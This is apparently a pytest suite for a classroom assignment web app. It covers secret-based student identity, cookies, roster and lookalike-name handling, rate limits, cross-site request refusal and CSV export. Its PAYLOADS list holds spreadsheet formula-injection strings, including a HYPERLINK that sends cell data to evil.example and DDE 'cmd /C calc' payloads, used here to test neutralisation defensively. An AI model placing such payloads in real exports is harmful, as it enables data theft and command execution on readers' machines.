"""A student's identity: registration by POST with a personal secret, the cookie
and the personal link, what a request without the secret may do (nothing), the instructor's roster, links,
lock, reset and delete, CSV cells that a spreadsheet would run as formulas, and a name with "/".

Each test names the failure it reproduces as the app behaved before (d0a7cb5): a GET by name registered a
student and showed anyone their answers, "IVAN  PETROV" spent "Ivan Petrov"'s attempts, "Пётр" and a Latin name
with a Cyrillic "о" became second students who look the same, CSV cells ran as formulas, "/" gave 404.
"""
from __future__ import annotations

import csv
import io
import re

import pytest
from fastapi.testclient import TestClient
from hypothesis import given, strategies as st

from server.classroom import assignment_store
from server.api.app import app
from server.api.csv_export import FORMULA_STARTS, safe_cell
from server.classroom.identity import secret_hash
from server.classroom.names import clean
from server.lessons.markup import plain_label

API = "/api/v1/assignments"
FLYWHEEL = {"scene": "flywheel", "variant": "rig", "title": "Lab 5",
            "sliders": {"delta": {"vary": {"min": 0.01, "max": 0.05}, "step": 0.001}, "omega_mean": {"value": 50}},
            "questions": [{"id": "flywheel_inertia"}], "attempts": 3, "reveal_answers": True}
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1"]
NAMES = list(dict.fromkeys(clean(p) for p in PAYLOADS))      # as registered: a leading tab or CR is not kept
# the instructor's CSV of a ru assignment: ";" between cells, a decimal comma, the columns in words
STUDENT, VARIANT, LINK = "Студент", "Вариант", "Личная ссылка"
INERTIA = plain_label("Момент инерции маховика I_м (точный, для заданного δ)")     # a CSV header: plain text
ANSWER, CORRECT = f"{INERTIA}: ответ", f"{INERTIA}: Правильный ответ"


def csv_rows(text: str) -> list[dict]:
    """The rows of an instructor's CSV (ru), by the columns' words."""
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))


def number(cell: str) -> float:
    return float(cell.replace(",", "."))


@pytest.fixture()
def client(tmp_path, monkeypatch) -> TestClient:
    monkeypatch.setenv("MDL_DATA_DIR", str(tmp_path))
    assignment_store.store.cache_clear()
    yield TestClient(app)
    assignment_store.store.cache_clear()


@pytest.fixture()
def created(client) -> dict:
    response = client.post(API, json=FLYWHEEL)
    assert response.status_code == 201, response.text
    return response.json()


def fresh(client) -> TestClient:
    """Another browser (no cookies) on the same app and database."""
    return TestClient(client.app, base_url=str(client.base_url))


def on_start_page(client, created, lang="en") -> TestClient:
    """Another browser that has opened the students' link (and so holds the pages' mdl_client cookie)."""
    browser = fresh(client)
    assert 'method="post"' in browser.get(f"/assignments/{created['id']}", params={"lang": lang}).text
    return browser


def register(client, created, name, **headers):
    return client.post(f"{API}/{created['id']}/students", json={"name": name}, headers=headers)


def secret_of(client, created, name) -> str:
    response = register(fresh(client), created, name)
    assert response.status_code == 201, response.text
    return response.json()["secret"]


def bearer(secret: str) -> dict:
    return {"Authorization": f"Bearer {secret}"}


def submit(client, created, answer, headers=None, **extra):
    return client.post(f"{API}/{created['id']}/submissions",
                       json={"question": "flywheel_inertia", "answer": answer} | extra, headers=headers or {})


def results(client, created) -> list[dict]:
    return client.get(f"{API}/{created['id']}/results/{created['results_token']}").json()["students"]


def refusal(response) -> dict:
    return response.json()["detail"][0]


# --- point 1: a student is a secret, not a typed name ----------------------------------------------------------

def test_a_classmate_cannot_be_read_by_name(client, created):
    """Before: GET …/students/Ivan Petrov answered anyone with Ivan's answers and right/wrong."""
    mine = bearer(secret_of(client, created, "Ivan Petrov"))
    assert submit(client, created, 1.0, mine).status_code == 200
    stranger = fresh(client)
    assert stranger.get(f"{API}/{created['id']}/students/Ivan Petrov").status_code in (404, 405)
    no_secret = stranger.get(f"{API}/{created['id']}/me")
    assert no_secret.status_code == 401 and refusal(no_secret)["type"] == "no_secret"
    forged = stranger.get(f"{API}/{created['id']}/me", headers=bearer("A" * 32))
    assert forged.status_code == 403 and refusal(forged)["type"] == "unknown_secret"
    own = stranger.get(f"{API}/{created['id']}/me", headers=mine).json()
    assert own["student"] == "Ivan Petrov" and own["questions"][0]["answers"] == [1.0]


def test_a_bare_get_registers_nobody(client, created):
    """Before: a GET (an <img> on any site) registered a student; 1,953 fake rows in 50 s."""
    stranger = fresh(client)
    for url in (f"{API}/{created['id']}/students/Eve", f"/assignments/{created['id']}?student=Eve",
                f"/assignments/{created['id']}/me/Eve"):
        stranger.get(url)
    assert results(client, created) == []
    start = stranger.get(f"/assignments/{created['id']}?student=Eve")
    assert start.status_code == 200 and 'method="post"' in start.text and 'id="assignment-data"' not in start.text


def test_another_spelling_cannot_spend_a_students_attempts(client, created):
    """Before: "IVAN  PETROV" submitted as attempt 2 of "Ivan Petrov"."""
    ivan = bearer(secret_of(client, created, "Ivan Petrov"))
    submit(client, created, 1.0, ivan)
    stranger = fresh(client)
    taken = register(stranger, created, "IVAN  PETROV")
    assert taken.status_code == 409 and refusal(taken)["type"] == "name_taken"
    assert refusal(taken)["name"] == "Ivan Petrov" and "personal link" in refusal(taken)["msg"]
    anonymous = submit(stranger, created, 2.0, student="IVAN  PETROV")
    assert anonymous.status_code == 401
    assert results(client, created)[0]["attempts"] == 1


def test_yo_and_ye_are_one_student(client, created):
    """Before: "Пётр" and "Петр" were two students with two variants and fresh attempts."""
    secret_of(client, created, "Пётр")
    again = register(fresh(client), created, "Петр")
    assert again.status_code == 409 and refusal(again)["name"] == "Пётр"
    assert [row["student"] for row in results(client, created)] == ["Пётр"]


def test_look_alike_names_are_refused_naming_the_registered_one(client, created):
    """Before: "Ivan" with a Cyrillic "о"/"а" made a second student who looks identical in the results."""
    secret_of(client, created, "Popa Ivan")
    mixed = register(fresh(client), created, "Pop\u0430 Ivan")                     # Cyrillic а
    assert mixed.status_code == 422 and refusal(mixed)["type"] == "name_mixed_scripts"
    assert refusal(mixed)["letter"] == "\u0430" and refusal(mixed)["loc"] == ["body", "name"]
    look_alike = register(fresh(client), created, "Рора Ivan")                     # all-Cyrillic word
    assert look_alike.status_code == 409 and refusal(look_alike)["type"] == "name_confusable"
    assert refusal(look_alike)["resembles"] == "Popa Ivan"
    assert len(results(client, created)) == 1


def test_registering_again_with_ones_own_secret_changes_nothing(client, created):
    browser = fresh(client)
    first = register(browser, created, "Olena")
    assert first.status_code == 201 and first.json()["personal_url"].endswith(f"/me/{first.json()['secret']}?lang=ru")
    again = register(browser, created, "OLENA")                     # the cookie says who this is
    assert again.status_code == 200 and again.json()["secret"] is None
    assert browser.get(f"{API}/{created['id']}/me").json()["student"] == "Olena"


def test_a_submission_naming_someone_else_is_refused(client, created):
    secret_of(client, created, "Taras")
    mine = bearer(secret_of(client, created, "Lesya"))
    refused = submit(client, created, 1.0, mine, student="Taras")
    assert refused.status_code == 403 and refusal(refused)["type"] == "not_your_name"
    assert submit(client, created, 1.0, mine, student="LESYA").status_code == 200


def test_the_cookie_is_httponly_samesite_scoped_and_secure_over_https(client, created):
    secure = TestClient(client.app, base_url="https://testserver")
    response = register(secure, created, "Bohdan")
    cookies = response.headers.get_list("set-cookie")
    assert len(cookies) == 2 and all("HttpOnly" in c and "Secure" in c for c in cookies)
    by_path = {re.search(r"Path=([^;]+)", c).group(1): c for c in cookies}
    assert "SameSite=lax" in by_path[f"/assignments/{created['id']}"]
    assert "SameSite=strict" in by_path[f"{API}/{created['id']}"]
    assert "Secure" not in register(fresh(client), created, "Ostap").headers["set-cookie"]   # plain http
    stored = assignment_store.store().student_by_secret(created["id"], secret_hash(response.json()["secret"]))
    assert stored.name == "Bohdan" and stored.secret_hash != response.json()["secret"]       # only the hash


def test_the_personal_link_lets_the_student_in_on_another_device(client, created):
    phone, laptop = fresh(client), fresh(client)
    secret = register(phone, created, "Marko").json()["secret"]
    submit(phone, created, 1.0)                                        # the cookie identifies the student
    opened = laptop.get(f"/assignments/{created['id']}/me/{secret}", follow_redirects=False)
    assert opened.status_code == 303 and opened.headers["location"].startswith(f"/assignments/{created['id']}")
    page = laptop.get(opened.headers["location"])
    assert 'id="assignment-data"' in page.text and "Marko" in page.text
    assert laptop.get(f"{API}/{created['id']}/me").json()["questions"][0]["attempts_used"] == 1
    wrong = fresh(client).get(f"/assignments/{created['id']}/me/{'B' * 32}")
    assert wrong.status_code == 404 and 'method="post"' in wrong.text


def test_the_name_form_registers_shows_the_link_once_and_refuses_in_the_readers_language(client, created):
    browser = on_start_page(client, created, "ru")
    page = browser.post(f"/assignments/{created['id']}?lang=ru", data={"student": "Ганна Коваль"})
    assert page.status_code == 201
    link = re.search(r'id="personal-link" readonly value="([^"]+)"', page.text).group(1)
    assert re.search(rf"/assignments/{created['id']}/me/[\w-]{{32}}\?lang=ru$", link)
    assert 'id="assignment-data"' in browser.get(f"/assignments/{created['id']}").text       # the cookie
    assert "personal-link" not in browser.get(f"/assignments/{created['id']}").text          # shown once
    taken = on_start_page(client, created).post(f"/assignments/{created['id']}?lang=ru", data={"student": "ганна  коваль"})
    assert taken.status_code == 409 and "Имя «Ганна Коваль» уже зарегистрировано" in taken.text
    mixed = on_start_page(client, created).post(f"/assignments/{created['id']}?lang=uk", data={"student": "Ivаn"})
    assert mixed.status_code == 422 and "«а» — кирилична літера" in mixed.text
    other_site = on_start_page(client, created).post(f"/assignments/{created['id']}", data={"student": "Mallory"},
                                                     headers={"Origin": "https://evil.example"})
    assert other_site.status_code == 403 and len(results(client, created)) == 1
    forged = fresh(client).post(f"/assignments/{created['id']}", data={"student": "Mallory"},   # no page cookie:
                                headers={"Origin": "null"})                                  # another site's form
    assert forged.status_code == 403 and "с другого сайта" in forged.text and len(results(client, created)) == 1
    api_other_site = register(fresh(client), created, "Mallory", **{"Sec-Fetch-Site": "cross-site"})
    assert api_other_site.status_code == 403 and len(results(client, created)) == 1


def test_not_me_forgets_the_secret_on_this_browser_only(client, created):
    browser = fresh(client)
    secret = register(browser, created, "Iryna").json()["secret"]
    left = browser.post(f"/assignments/{created['id']}/leave", follow_redirects=False)
    assert left.status_code == 303
    assert browser.get(f"{API}/{created['id']}/me").status_code == 401
    assert browser.get(f"{API}/{created['id']}/me", headers=bearer(secret)).status_code == 200


# --- the instructor: roster, lock, links, reset, delete --------------------------------------------------------

def instructor(created) -> str:
    return f"{API}/{created['id']}/results/{created['results_token']}"


def test_a_roster_puts_names_on_with_their_variants_and_refuses_look_alikes(client, created):
    secret_of(client, created, "Ivan Petrov")
    uploaded = client.post(f"{instructor(created)}/roster", json={
        "names": "ФИО;Группа\nIVAN PETROV;КМ-21\nОлена Шевчук;КМ-21\nOлена Шевчук;КМ-21\nPetrо Ivanov;КМ-21\n;КМ-22\n"})
    outcome = uploaded.json()
    assert outcome["added"] == ["Олена Шевчук"] and outcome["already"] == ["Ivan Petrov"]
    assert [r["line"] for r in outcome["refused"]] == [";КМ-22", "Oлена Шевчук", "Petrо Ivanov"]
    rows = {row["student"]: row for row in results(client, created)}
    assert rows["Олена Шевчук"]["on_roster"] and not rows["Олена Шевчук"]["has_link"]
    assert not rows["Ivan Petrov"]["on_roster"] and rows["Ivan Petrov"]["has_link"]


def test_locked_registration_takes_no_typed_name(client, created):
    client.post(f"{instructor(created)}/roster", json={"names": "Olena Shevchuk\nTaras Bulba", "lock": True})
    stranger = register(fresh(client), created, "Mallory")
    assert stranger.status_code == 403 and refusal(stranger)["type"] == "roster_locked"
    typed = register(fresh(client), created, "olena  shevchuk")
    assert typed.status_code == 403 and refusal(typed)["type"] == "roster_name_needs_link"
    assert client.put(f"{instructor(created)}/roster-lock", json={"locked": False}).json() == {"locked": False}
    assert register(fresh(client), created, "Mallory").status_code == 201


def links(client, created) -> dict[str, str]:
    """The instructor's links CSV for the students without a link: name → personal link."""
    answer = client.post(f"{instructor(created)}/links?only_new=true")
    return {row[STUDENT]: row[LINK] for row in csv_rows(answer.text)}


@pytest.mark.parametrize("lock", [True, False])
def test_a_roster_name_is_entered_only_with_its_personal_link(client, created, lock):
    """Typing a name of the roster, or one that looks like it, never enters it (before: 201 and Dave's secret)."""
    client.post(f"{instructor(created)}/roster", json={"names": "Carol Clark\nDave Dunn", "lock": lock})
    for typed, named in [("Dave Dunn", "Dave Dunn"), ("dave  DUNN", "Dave Dunn"), ("Dave\u2800 Dunn", "Dave Dunn"),
                         ("Carol CIark", "Carol Clark"), ("Caro1 Clark", "Carol Clark")]:
        answer = register(fresh(client), created, typed)
        assert answer.status_code == 403 and "secret" not in answer.text, (typed, answer.text)
        assert refusal(answer)["type"] == "roster_name_needs_link" and refusal(answer)["name"] == named
        assert "personal link the instructor gave you" in refusal(answer)["msg"]
    assert all(not row["has_link"] for row in results(client, created))
    dave = fresh(client)
    dave.get(links(client, created)["Dave Dunn"].replace(str(client.base_url), ""))
    assert dave.get(f"{API}/{created['id']}/me").json()["student"] == "Dave Dunn"


@pytest.mark.parametrize("lang, text", [
    ("en", "The name “Dave Dunn” is on the instructor's list: you enter it only with the personal link"),
    ("ru", "Имя «Dave Dunn» есть в списке преподавателя: войти под ним можно только по личной ссылке"),
    ("uk", "Ім'я «Dave Dunn» є у списку викладача: увійти під ним можна лише за особистим посиланням")])
def test_the_name_form_says_a_roster_name_needs_its_link_in_the_readers_language(client, created, lang, text):
    client.post(f"{instructor(created)}/roster", json={"names": "Dave Dunn"})
    page = on_start_page(client, created, lang).post(f"/assignments/{created['id']}?lang={lang}",
                                                     data={"student": "dave dunn"})
    assert page.status_code == 403 and text in page.text.replace("&#39;", "'")
    assert "mdl_student" not in page.headers.get("set-cookie", "")


def test_registrations_from_one_address_are_limited(client, created, monkeypatch):
    """One address made up 3,000 students in 101 s; now at most MDL_REGISTRATIONS_PER_HOUR an hour."""
    monkeypatch.setenv("MDL_REGISTRATIONS_PER_HOUR", "3")
    for k in range(3):
        assert register(fresh(client), created, f"Made Up {k}").status_code == 201
    refused = register(fresh(client), created, "Made Up 3")
    assert refused.status_code == 429 and refused.headers["retry-after"] == "3600"
    assert refusal(refused)["type"] == "too_many_registrations" and "at most 3 new students per hour" in \
        refusal(refused)["msg"]
    form = on_start_page(client, created).post(f"/assignments/{created['id']}?lang=en", data={"student": "Made Up 4"})
    assert form.status_code == 429 and form.headers["retry-after"] == "3600" and "at most 3" in form.text
    other = TestClient(client.app, base_url=str(client.base_url), client=("10.1.2.3", 5000))
    assert register(other, created, "Made Up 5").status_code == 201            # another address
    client.post(f"{instructor(created)}/roster", json={"names": "Roster Name"})     # the roster is not limited
    assert len(results(client, created)) == 5


def test_the_instructor_replaces_a_leaked_results_link(client, created):
    old = instructor(created)
    secret_of(client, created, "Ivan Petrov")
    answer = client.post(f"{old}/token?lang=uk")
    assert answer.status_code == 200
    new_token, new_url = answer.json()["results_token"], answer.json()["results_url"]
    assert new_token != created["results_token"]
    assert new_url == f"{client.base_url}/assignments/{created['id']}/results/{new_token}?lang=uk"
    for path in ("", "/csv"):
        assert client.get(f"{old}{path}").status_code == 404
        assert client.get(f"{API}/{created['id']}/results/{new_token}{path}").status_code == 200
    assert client.post(f"{old}/links").status_code == 404 and client.post(f"{old}/token").status_code == 404
    assert client.get(f"/assignments/{created['id']}/results/{created['results_token']}").status_code == 404
    page = client.get(new_url.replace(str(client.base_url), ""))
    assert page.status_code == 200 and 'id="replace-results-link"' in page.text and new_token in page.text
    assert [row["student"] for row in client.get(f"{API}/{created['id']}/results/{new_token}").json()["students"]] \
        == ["Ivan Petrov"]


def test_answers_that_carry_a_secret_or_the_results_are_kept_by_no_cache(client, created):
    def private(answer):
        assert answer.headers.get("cache-control") == "no-store" and answer.headers.get("pragma") == "no-cache", \
            (answer.request.url, answer.status_code, answer.headers)
    browser = fresh(client)
    registered = register(browser, created, "Ivan Petrov")
    private(registered)
    secret = registered.json()["secret"]
    private(browser.get(f"{API}/{created['id']}/me"))
    private(fresh(client).get(f"/assignments/{created['id']}/me/{secret}", follow_redirects=False))
    private(fresh(client).get(f"/assignments/{created['id']}/me/{'B' * 32}"))
    private(on_start_page(client, created).post(f"/assignments/{created['id']}", data={"student": "Taras"}))
    private(client.get(instructor(created)))
    private(client.get(f"/assignments/{created['id']}/results/{created['results_token']}"))
    private(client.get(f"{instructor(created)}/csv"))
    private(client.post(f"{instructor(created)}/links"))
    row = results(client, created)[0]
    private(client.post(f"{instructor(created)}/students/{row['id']}/link"))
    private(client.post(f"{instructor(created)}/token"))


def test_personal_links_csv_makes_new_links_and_ends_the_old(client, created):
    old = secret_of(client, created, "Ivan Petrov")
    client.post(f"{instructor(created)}/roster", json={"names": "KM-21/1 Ivanov\n" + "\n".join(PAYLOADS)})
    assert len(NAMES) == 5                              # "\t=1+1" and "\r=1+1" are one name, "=1+1"
    only_new = client.post(f"{instructor(created)}/links?only_new=true")
    assert only_new.headers["content-type"].startswith("text/csv") and only_new.text.startswith("\ufeff")
    rows = csv_rows(only_new.text)
    assert "Ivan Petrov" not in {r[STUDENT] for r in rows} and len(rows) == 1 + len(NAMES)
    assert {r[STUDENT] for r in rows} == {"KM-21/1 Ivanov"} | {"'" + name for name in NAMES}
    assert client.get(f"{API}/{created['id']}/me", headers=bearer(old)).status_code == 200     # untouched
    for row in rows:                                    # every link works, in a browser of its own
        browser = fresh(client)
        browser.get(row[LINK].replace(str(client.base_url), ""))
        assert browser.get(f"{API}/{created['id']}/me").json()["variant"] == int(row[VARIANT])
    every = csv_rows(client.post(f"{instructor(created)}/links").text)
    assert len(every) == 2 + len(NAMES)
    assert client.get(f"{API}/{created['id']}/me", headers=bearer(old)).status_code == 403     # ended


def test_the_instructor_resets_one_link_and_deletes_a_row_with_its_submissions(client, created):
    old = secret_of(client, created, "Ivan Petrov")
    other = bearer(secret_of(client, created, "Taras"))
    submit(client, created, 1.0, bearer(old))
    submit(client, created, 1.0, other)
    ivan, taras = sorted(results(client, created), key=lambda row: row["student"])
    renewed = client.post(f"{instructor(created)}/students/{ivan['id']}/link").json()
    assert renewed["student"] == "Ivan Petrov"
    assert client.get(f"{API}/{created['id']}/me", headers=bearer(old)).status_code == 403
    new = renewed["personal_url"].rsplit("/", 1)[1].split("?")[0]
    assert client.get(f"{API}/{created['id']}/me", headers=bearer(new)).json()["questions"][0]["attempts_used"] == 1
    assert client.delete(f"{instructor(created)}/students/{taras['id']}").status_code == 204
    assert [row["student"] for row in results(client, created)] == ["Ivan Petrov"]
    assert assignment_store.store().submissions(created["id"], "taras") == []
    assert submit(client, created, 1.0, other).status_code == 403                 # the deleted student's secret
    assert client.delete(f"{instructor(created)}/students/{taras['id']}").status_code == 404


def test_instructor_actions_need_the_token(client, created):
    secret_of(client, created, "Ivan")
    row = results(client, created)[0]
    wrong = f"{API}/{created['id']}/results/not-the-token"
    assert client.post(f"{wrong}/roster", json={"names": "Eve"}).status_code == 404
    assert client.put(f"{wrong}/roster-lock", json={"locked": True}).status_code == 404
    assert client.post(f"{wrong}/links").status_code == 404
    assert client.post(f"{wrong}/students/{row['id']}/link").status_code == 404
    assert client.delete(f"{wrong}/students/{row['id']}").status_code == 404
    assert len(results(client, created)) == 1 and results(client, created)[0]["has_link"]


def test_the_results_page_offers_the_roster_and_the_row_actions(client, created):
    secret_of(client, created, "Ivan")
    page = client.get(f"/assignments/{created['id']}/results/{created['results_token']}", params={"lang": "uk"})
    assert page.status_code == 200
    for marker in ('id="roster-form"', 'id="roster-lock"', "links?only_new=true", 'class="button secondary delete-student"',
                   "Студенти та особисті посилання", "assignment_results.js"):
        assert marker in page.text


# --- point 4: CSV formula injection ----------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_payload_is_written_as_text(payload):
    """Before: each of the six started a cell that a spreadsheet runs; the tab and CR ones after the
    spreadsheet strips the leading whitespace. The prefix goes on the raw text, before anything strips it."""
    assert safe_cell(payload) == "'" + payload
    assert safe_cell(-1.5) == "-1.5" and safe_cell(-2) == "-2" and safe_cell("Ivan") == "Ivan" and safe_cell(None) == ""
    assert safe_cell(-1.5, "ru") == "-1,5"


@given(st.text(max_size=20), st.floats(allow_nan=False, allow_infinity=False))
def test_a_text_cell_never_starts_a_formula_and_a_number_reads_back_exactly(text, number):
    """Any text is written as itself with apostrophes before formula characters only, and no cell starts with
    = + - @ TAB CR when the row is read back at any separator; a float reads back equal (repr: every digit)."""
    shown = safe_cell(text)
    assert shown.replace("'", "") == text.replace("'", "") and not shown.startswith(FORMULA_STARTS)
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([shown, safe_cell(number)])
    cell, figure = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert cell == shown and float(figure) == number
    for delimiter in (",", ";", "\t"):                 # a negative number the app wrote may begin a cell
        for row in csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter):
            assert not any(c.startswith(FORMULA_STARTS) and not re.match(r"-\d", c) for c in row), row


def test_the_results_csv_neutralises_names_and_keeps_negative_numbers(client, created):
    for payload in PAYLOADS[:-1]:                      # the CR payload registers as the tab one: "=1+1"
        submit(client, created, -1.5, bearer(secret_of(client, created, payload)))
    table = client.get(f"{instructor(created)}/csv").text.lstrip("\ufeff")
    rows = csv_rows(table)
    assert [row[STUDENT] for row in rows] == ["'" + name for name in NAMES]
    for row in rows:
        assert row[ANSWER] == "-1,5" and number(row[CORRECT]) > 0
    for cell in (c for row in csv.reader(io.StringIO(table), delimiter=";") for c in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            number(cell)                                # a number the app wrote, or the test fails here


def test_a_table_cell_starting_with_a_minus_is_a_number_or_prefixed(client, created):
    """The app's own negative numbers stay numbers (a spreadsheet reads them as such); a name never starts a
    cell with "-" unprefixed."""
    submit(client, created, -2e-5, bearer(secret_of(client, created, "-1")))
    row = csv_rows(client.get(f"{instructor(created)}/csv").text)[0]
    assert row[STUDENT] == "'-1" and number(row[ANSWER]) == -2e-5


# --- point 5: a name with "/" ----------------------------------------------------------------------------------

def test_a_name_with_a_slash_works_end_to_end(client, created):
    """Before: "KM-21/1 Ivanov" got 404 (the name was a path segment)."""
    browser = on_start_page(client, created)
    page = browser.post(f"/assignments/{created['id']}?lang=en", data={"student": "KM-21/1 Ivanov"})
    assert page.status_code == 201
    scene = browser.get(f"/assignments/{created['id']}")
    assert scene.status_code == 200 and "KM-21/1 Ivanov" in scene.text
    assert browser.get(f"{API}/{created['id']}/me").json()["student"] == "KM-21/1 Ivanov"
    outcome = submit(browser, created, 1.0, student="KM-21/1 Ivanov")
    assert outcome.status_code == 200 and outcome.json()["attempt"] == 1
    assert results(client, created)[0]["student"] == "KM-21/1 Ivanov"
